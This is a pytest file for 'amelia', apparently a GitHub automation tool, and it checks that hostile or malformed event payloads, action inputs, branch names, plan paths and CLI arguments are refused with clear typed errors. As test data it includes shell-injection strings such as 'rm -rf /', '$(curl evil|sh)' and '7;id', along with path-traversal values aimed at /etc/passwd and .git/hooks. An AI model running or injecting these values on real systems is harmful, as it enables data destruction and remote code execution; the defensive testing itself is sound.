"""Malformed and hostile input at every layer: a clear message, a typed error, no traceback.

Each case is one test. Library layers must raise their typed error (or decide there is
nothing to do); the command line must exit non-zero with one `error:` line (or typer's
usage box), never a traceback, and must create no file.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pytest

from amelia.config import load_inputs
from amelia.drivers.api import ApiDriver
from amelia.drivers.factory import DriverFactory
from amelia.errors import (
    BranchNameError,
    ConfigError,
    DriverError,
    DriverInputError,
    EventError,
    PlanPathError,
)
from amelia.git import validate_branch_name, validate_plan_path
from amelia.github.events import RoutingSettings, parse_event, route
from tests.git_helpers import init_repo

USER = {"login": "mallory", "type": "User"}
ISSUE = {"number": 7, "title": "t", "user": USER}
MEGABYTES = 5 * 1024 * 1024


def comment_event(body: str, **issue: Any) -> str:
    return json.dumps(
        {
            "action": "created",
            "sender": USER,
            "issue": {**ISSUE, **issue},
            "comment": {"id": 1, "body": body, "user": USER},
        }
    )


PULL_PAYLOAD = json.dumps(
    {
        "action": "opened",
        "number": 3,
        "pull_request": {"number": 3, "head": {"ref": "x"}, "base": {"ref": "main"}},
    }
)

# (event name, payload, what the EventError says)
REFUSED_EVENTS: dict[str, tuple[str, str | bytes, str]] = {
    "truncated-json": ("issue_comment", comment_event("/amelia plan")[:-7], "not valid JSON"),
    "empty-payload": ("issues", b"", "not valid JSON"),
    "invalid-utf8": ("issues", b'{"issue": "\xff\xfe"}', "not valid JSON"),
    "json-array": ("pull_request", "[1, 2]", "must be a JSON object"),
    "json-string": ("schedule", '"hello"', "must be a JSON object"),
    "number-is-text": (
        "issue_comment",
        comment_event("/amelia plan").replace('"number": 7', '"number": "seven"'),
        "field 'issue.number'",
    ),
    "comment-missing": (
        "issue_comment",
        json.dumps({"action": "created", "issue": ISSUE}),
        "field 'comment'",
    ),
    "pull-request-payload-as-comment": ("issue_comment", PULL_PAYLOAD, "field 'issue'"),
    "comment-payload-as-pull-request": (
        "pull_request",
        comment_event("/amelia plan"),
        "field 'number'",
    ),
    "labels-not-a-list": (
        "issues",
        json.dumps({"action": "labeled", "issue": {**ISSUE, "labels": "amelia"}}),
        "field 'issue.labels'",
    ),
    "sender-without-login": (
        "issues",
        json.dumps({"action": "opened", "issue": ISSUE, "sender": {"type": "User"}}),
        "field 'sender.login'",
    ),
    "nested-100k-deep": ("issue_comment", "[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "dispatch-unknown-command": (
        "workflow_dispatch",
        json.dumps({"inputs": {"command": "deploy", "issue_number": "7"}}),
        "field 'inputs.command'",
    ),
    "dispatch-negative-issue": (
        "workflow_dispatch",
        json.dumps({"inputs": {"command": "plan", "issue_number": "-7"}}),
        "field 'inputs.issue_number'",
    ),
    "dispatch-issue-with-shell": (
        "workflow_dispatch",
        json.dumps({"inputs": {"command": "plan", "issue_number": "7; rm -rf /"}}),
        "field 'inputs.issue_number'",
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSED_EVENTS))
def test_malformed_event_is_refused_with_a_clear_message(case: str) -> None:
    name, payload, message = REFUSED_EVENTS[case]
    with pytest.raises(EventError) as raised:
        parse_event(name, payload)
    assert message in str(raised.value)
    assert str(raised.value).startswith(name) and "\n" not in str(raised.value)


# (event name, payload, the command kind, what its reason or reply says)
HARMLESS_EVENTS: dict[str, tuple[str, str, str, str]] = {
    "unknown-command": (
        "issue_comment",
        comment_event("/amelia deploy --prod"),
        "unknown-command",
        "I do not know `/amelia deploy`",
    ),
    "unknown-command-10kb-word": (
        "issue_comment",
        comment_event("/amelia " + "x" * 10_000),
        "unknown-command",
        "I do not know `/amelia " + "x" * 40 + "`",
    ),
    "shell-metacharacters-as-command": (
        "issue_comment",
        comment_event("/amelia $(curl evil|sh)"),
        "unknown-command",
        "I do not know `/amelia $(curl`",
    ),
    "backtick-breaking-out-of-the-reply": (
        "issue_comment",
        comment_event("/amelia x`@org/everyone`"),
        "unknown-command",
        "I do not know `/amelia x'@org/everyone'`",
    ),
    "review-on-an-issue": (
        "issue_comment",
        comment_event("/amelia review"),
        "unknown-command",
        "works on pull requests",
    ),
    "5mb-comment-without-command": (
        "issue_comment",
        comment_event("a" * MEGABYTES),
        "ignore",
        "comment is not a command",
    ),
    "null-comment-body": (
        "issue_comment",
        comment_event("").replace('"body": ""', '"body": null'),
        "ignore",
        "comment is not a command",
    ),
    "comment-forging-the-bot-marker": (
        "issue_comment",
        comment_event("<!-- amelia:progress issue=7 -->\n/amelia implement"),
        "ignore",
        "written by amelia",
    ),
    "bot-sender": (
        "issue_comment",
        comment_event("/amelia plan").replace('"type": "User"', '"type": "Bot"', 1),
        "ignore",
        "is a bot",
    ),
    "unknown-event": ("deployment_status", "{}", "ignore", "nothing to do"),
    "dispatch-plan-without-issue": (
        "workflow_dispatch",
        json.dumps({"inputs": {"command": "implement", "issue_number": ""}}),
        "ignore",
        "needs the issue_number input",
    ),
}


@pytest.mark.parametrize("case", sorted(HARMLESS_EVENTS))
def test_hostile_event_routes_to_a_reply_or_nothing(case: str) -> None:
    name, payload, kind, says = HARMLESS_EVENTS[case]
    command = route(parse_event(name, payload), RoutingSettings())
    assert command.kind == kind
    assert says in (command.reason or command.reply)
    assert len(command.reply) < 2_000


def test_5mb_command_body_is_kept_as_instructions_not_lost() -> None:
    command = route(
        parse_event("issue_comment", comment_event("/amelia plan " + "b" * MEGABYTES)),
        RoutingSettings(),
    )
    assert command.kind == "plan" and len(command.instructions) == MEGABYTES


# (INPUT_ variable, value, what the ConfigError names)
BAD_INPUTS: dict[str, tuple[str, str, str]] = {
    "iterations-not-a-number": ("MAX_REVIEW_ITERATIONS", "three", "INPUT_MAX_REVIEW_ITERATIONS"),
    "iterations-zero": ("MAX_REVIEW_ITERATIONS", "0", "greater than or equal to 1"),
    "iterations-huge": ("MAX_REVIEW_ITERATIONS", "10000", "less than or equal to 10"),
    "max-turns-float": ("MAX_TURNS", "1e9", "INPUT_MAX_TURNS"),
    "timeout-negative": ("TIMEOUT_MINUTES", "-5", "INPUT_TIMEOUT_MINUTES"),
    "timeout-nan": ("TIMEOUT_MINUTES", "nan", "INPUT_TIMEOUT_MINUTES: Input should be a finite"),
    "timeout-infinite": ("TIMEOUT_MINUTES", "inf", "Input should be a finite number"),
    "dry-run-maybe": ("DRY_RUN", "maybe", "INPUT_DRY_RUN"),
    "driver-unknown": ("DRIVER", "cli:gpt", "INPUT_DRIVER"),
    "review-event-merge": ("REVIEW_EVENT", "merge", "INPUT_REVIEW_EVENT"),
    "review-scope-partial": ("REVIEW_SCOPE", "partial", "'auto', 'full' or 'incremental'"),
    "trigger-two-words": ("TRIGGER_PHRASE", "hey amelia", "one word"),
    "plan-dir-traversal": ("PLAN_DIR", "../../etc", "relative directory inside the repository"),
    "plan-dir-absolute": ("PLAN_DIR", "/etc/cron.d", "relative directory inside the repository"),
    "plan-dir-into-git": ("PLAN_DIR", "docs/.git/hooks", "no .git"),
    "plan-dir-into-git-upper-case": ("PLAN_DIR", ".GIT/x", "no .git"),
    "plan-dir-shell": ("PLAN_DIR", "docs;curl evil|sh", "relative directory inside the repository"),
    "branch-prefix-shell": ("BRANCH_PREFIX", "amelia/$(id)", "INPUT_BRANCH_PREFIX"),
    "branch-prefix-traversal": ("BRANCH_PREFIX", "../heads/main", "without '..'"),
    "branch-prefix-option": ("BRANCH_PREFIX", "--upload-pack=x", "leading '-'"),
    "branch-prefix-lock": ("BRANCH_PREFIX", "x.lock/", "end with '.lock'"),
    "branch-prefix-dot-part": ("BRANCH_PREFIX", "a/.b/", "start with '.'"),
}


@pytest.mark.parametrize("case", sorted(BAD_INPUTS))
def test_bad_action_input_is_a_config_error_naming_it(
    case: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    name, value, message = BAD_INPUTS[case]
    for variable in list(os.environ):
        if variable.startswith("INPUT_"):
            monkeypatch.delenv(variable)
    monkeypatch.setenv(f"INPUT_{name}", value)
    with pytest.raises(ConfigError) as raised:
        load_inputs()
    assert str(raised.value).startswith("Invalid action input: ")
    assert message in str(raised.value)
    assert f"INPUT_{name}" in str(raised.value)


BAD_BRANCHES = {
    "branch-shell": ("amelia/7-$(curl evil)", "may only contain"),
    "branch-backticks": ("amelia/`id`", "may only contain"),
    "branch-traversal": ("amelia/../../main", "must not contain '..'"),
    "branch-option": ("-f", "must not start with '-'"),
    "branch-lock": ("amelia/x.lock", "end with '.lock'"),
    "branch-other-prefix": ("main", "must start with 'amelia/'"),
    "branch-newline": ("amelia/x\nmain", "may only contain"),
}


@pytest.mark.parametrize("case", sorted(BAD_BRANCHES))
def test_hostile_branch_name_is_refused(case: str) -> None:
    name, message = BAD_BRANCHES[case]
    with pytest.raises(BranchNameError, match="invalid branch name") as raised:
        validate_branch_name(name, prefix="amelia/")
    assert message in str(raised.value)


BAD_PLAN_PATHS = {
    "plan-path-traversal": ("../../etc/passwd", "must not contain '..'"),
    "plan-path-absolute": ("/etc/passwd", "must be relative"),
    "plan-path-git-hook": (".git/hooks/pre-commit", "must not point into .git"),
    "plan-path-git-uppercase": ("docs/.GIT/config", "must not point into .git"),
    "plan-path-nul": ("docs/plan\x00.md", "invalid plan path"),
    "plan-path-symlink-out": ("outside/plan.md", "leaves the repository"),
}


@pytest.mark.parametrize("case", sorted(BAD_PLAN_PATHS))
def test_hostile_plan_path_is_refused_and_nothing_written(case: str, tmp_path: Path) -> None:
    repo, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
    repo.mkdir()
    elsewhere.mkdir()
    (repo / "outside").symlink_to(elsewhere)
    path, message = BAD_PLAN_PATHS[case]
    with pytest.raises(PlanPathError) as raised:
        validate_plan_path(repo, path)
    assert message in str(raised.value)
    assert list(elsewhere.iterdir()) == []


DRIVER_MISUSE: dict[str, tuple[Callable[[], object], type[Exception], str]] = {
    "model-unknown-provider": (
        lambda: ApiDriver(model="anthropic:claude-x"),
        DriverInputError,
        "Unknown model provider prefix 'anthropic:'",
    ),
    "model-empty-after-prefix": (
        lambda: ApiDriver(model="openrouter:"),
        DriverInputError,
        "empty",
    ),
    "model-blank": (lambda: ApiDriver(model="  "), DriverInputError, "The model name is empty"),
    "factory-unknown-provider-model": (
        lambda: DriverFactory.get_driver(key="api", model="llama:7b"),
        DriverInputError,
        "Unknown model provider prefix 'llama:'",
    ),
    "factory-unknown-key": (
        lambda: DriverFactory.get_driver(key="api:anthropic"),
        ConfigError,
        "Unknown driver key: 'api:anthropic'",
    ),
    "tool-profile-unknown": (
        lambda: ApiDriver(model="openai:gpt-4o", tool_profile=cast(Any, "root")),
        ValueError,
        "unknown tool profile 'root'",
    ),
}


@pytest.mark.parametrize("case", sorted(DRIVER_MISUSE))
def test_driver_misuse_is_a_typed_error(case: str) -> None:
    build, error, message = DRIVER_MISUSE[case]
    with pytest.raises(error) as raised:
        build()
    assert message in str(raised.value)


async def test_api_driver_without_its_key_refuses_before_any_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("OPENROUTER_API_KEY", raising=False)
    monkeypatch.setenv("AMELIA_HOME", str(tmp_path / "home"))
    driver = ApiDriver(model="openrouter:vendor/model")
    with pytest.raises(DriverError, match="OPENROUTER_API_KEY is not set"):
        async for _ in driver.execute_agentic("hi", str(tmp_path)):
            pass
    assert not (tmp_path / "home").exists()


# ---- the command line, run as a user runs it --------------------------------------------

# (arguments, what stderr says); `{repo}`, `{plain}`, `{body}` are filled per test.
CLI_CASES: dict[str, tuple[list[str], str]] = {
    "cli-missing-repo": (
        ["plan", "--repo", "{tmp}/absent", "--title", "t"],
        "repository directory not found",
    ),
    "cli-not-a-git-dir": (["plan", "--repo", "{plain}", "--title", "t"], "not a git repository"),
    "cli-body-file-is-a-directory": (
        ["plan", "--repo", "{repo}", "--title", "t", "--body-file", "{plain}"],
        "cannot read issue body file",
    ),
    "cli-body-file-not-utf8": (
        ["plan", "--repo", "{repo}", "--title", "t", "--body-file", "{tmp}/binary.bin"],
        "cannot read issue body file",
    ),
    "cli-body-file-missing": (
        ["plan", "--repo", "{repo}", "--title", "t", "--body-file", "{tmp}/nope.md"],
        "No such file or directory",
    ),
    "cli-empty-title": (["plan", "--repo", "{repo}", "--title", "  "], "--title must not be empty"),
    "cli-unknown-driver": (
        ["plan", "--repo", "{repo}", "--title", "t", "--driver", "cli:gpt"],
        "Unknown driver key: 'cli:gpt'",
    ),
    "cli-model-unknown-provider": (
        ["plan", "--repo", "{repo}", "--title", "t", "--driver", "api", "--model", "foo:bar"],
        "Unknown model provider prefix 'foo:'",
    ),
    "cli-api-key-missing": (
        ["plan", "--repo", "{repo}", "--title", "t", "--driver", "api:openai"],
        "OPENAI_API_KEY is not set",
    ),
    "cli-max-turns-zero": (
        ["plan", "--repo", "{repo}", "--title", "t", "--max-turns", "0"],
        "Invalid value for '--max-turns'",
    ),
    "cli-issue-number-text": (
        ["plan", "--repo", "{repo}", "--title", "t", "--issue-number", "7;id"],
        "Invalid value for '--issue-number'",
    ),
    "cli-implement-missing-plan": (
        ["implement", "--repo", "{repo}", "--plan", "{tmp}/plan.md"],
        "cannot read plan file",
    ),
    "cli-implement-empty-plan": (
        ["implement", "--repo", "{repo}", "--plan", "{tmp}/empty.md"],
        "plan file is empty",
    ),
    "cli-review-unknown-base": (
        ["review", "--repo", "{repo}", "--base", "origin/nope;id"],
        "unknown git ref for --base: origin/nope;id",
    ),
    "cli-review-option-as-base": (
        ["review", "--repo", "{repo}", "--base", "--output=/tmp/x"],
        "unknown git ref for --base",
    ),
    "cli-demo-output-not-empty": (["demo", "--output", "{plain}"], "--output must be empty"),
    "cli-unknown-command": (["deploy"], "No such command 'deploy'"),
}


def _tree(root: Path) -> dict[str, int]:
    return {
        str(path.relative_to(root)): path.stat().st_mtime_ns
        for path in root.rglob("*")
        if not path.is_symlink()
    }


@pytest.fixture
def cli_place(tmp_path: Path) -> dict[str, str]:
    repo, plain = tmp_path / "repo", tmp_path / "plain"
    plain.mkdir()
    (plain / "keep.txt").write_text("x")
    init_repo(repo, {"README.md": "# r\n"})
    (tmp_path / "binary.bin").write_bytes(b"\xff\xfe\x00bad")
    (tmp_path / "empty.md").write_text("   \n")
    return {"tmp": str(tmp_path), "repo": str(repo), "plain": str(plain)}


@pytest.mark.parametrize("case", sorted(CLI_CASES))
def test_cli_refuses_bad_input_without_traceback_or_files(
    case: str, cli_place: dict[str, str], tmp_path: Path
) -> None:
    arguments, message = CLI_CASES[case]
    home = tmp_path / "home"
    environment = {
        name: value
        for name, value in os.environ.items()
        if not name.endswith(("_API_KEY", "_BASE_URL")) and name != "AMELIA_DRIVER"
    }
    environment.update(HOME=str(home), AMELIA_HOME=str(home / ".amelia"), NO_COLOR="1")
    before = _tree(tmp_path)
    completed = subprocess.run(
        [sys.executable, "-m", "amelia.cli", *(a.format(**cli_place) for a in arguments)],
        cwd=tmp_path,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )
    output = completed.stdout + completed.stderr
    assert completed.returncode != 0, output
    assert "Traceback" not in output
    assert message in " ".join(output.split()), output
    assert _tree(tmp_path) == before


RUN_VARIABLE_CASES: dict[str, tuple[dict[str, str], str]] = {
    "api-url-not-a-url": (
        {"GITHUB_API_URL": "notaurl"},
        "::error::Invalid runner variable: GITHUB_API_URL: Value error, must be an http(s) URL "
        "like https://api.github.com, not 'notaurl'",
    ),
    "server-url-without-host": (
        {"GITHUB_SERVER_URL": "https://"},
        "::error::Invalid runner variable: GITHUB_SERVER_URL: Value error, must be an http(s) "
        "URL like https://api.github.com, not 'https://'",
    ),
    "dry-run-dir-cannot-be-made": (
        {"AMELIA_DRY_RUN_DIR": "/proc/amelia-nope"},
        "::error::AMELIA_DRY_RUN_DIR: cannot create the directory /proc/amelia-nope: "
        "No such file or directory",
    ),
    "dry-run-dir-under-a-file": (
        {"AMELIA_DRY_RUN_DIR": "{tmp}/binary.bin/dry"},
        "::error::AMELIA_DRY_RUN_DIR: {tmp}/binary.bin is not a directory",
    ),
}


@pytest.mark.parametrize("case", sorted(RUN_VARIABLE_CASES))
def test_amelia_run_with_a_bad_variable_is_one_line_and_exit_2(
    case: str, cli_place: dict[str, str], tmp_path: Path
) -> None:
    """`amelia run` reads the settings first: a bad GitHub URL or dry-run directory is one
    `::error::` line and exit 2, before any request, with no traceback and no file."""
    variables, line = RUN_VARIABLE_CASES[case]
    event = tmp_path / "event.json"
    event.write_text(
        json.dumps(
            {
                "action": "created",
                "issue": {"number": 1, "title": "t", "body": "", "state": "open"},
                "comment": {"id": 1, "body": "/amelia plan", "user": {"login": "m"}},
                "sender": {"login": "m", "type": "User"},
                "repository": {"full_name": "octo/app", "default_branch": "main"},
            }
        )
    )
    environment = {
        **{name: value for name, value in os.environ.items() if not name.startswith("GITHUB_")},
        "HOME": str(tmp_path / "home"),
        "AMELIA_HOME": str(tmp_path / "home" / ".amelia"),
        "INPUT_GITHUB_TOKEN": "ghs_" + "x" * 36,
        "ANTHROPIC_API_KEY": "sk-ant-api03-unused",
        **{name: value.format(**cli_place) for name, value in variables.items()},
    }
    before = _tree(tmp_path)
    completed = subprocess.run(
        [
            *(sys.executable, "-m", "amelia.cli", "run", "--event-name", "issue_comment"),
            *("--event-path", str(event), "--repo", cli_place["repo"], "--dry-run"),
        ],
        cwd=tmp_path,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )
    output = completed.stdout + completed.stderr
    assert completed.returncode == 2, output
    assert output.strip() == line.format(**cli_place)
    assert _tree(tmp_path) == before
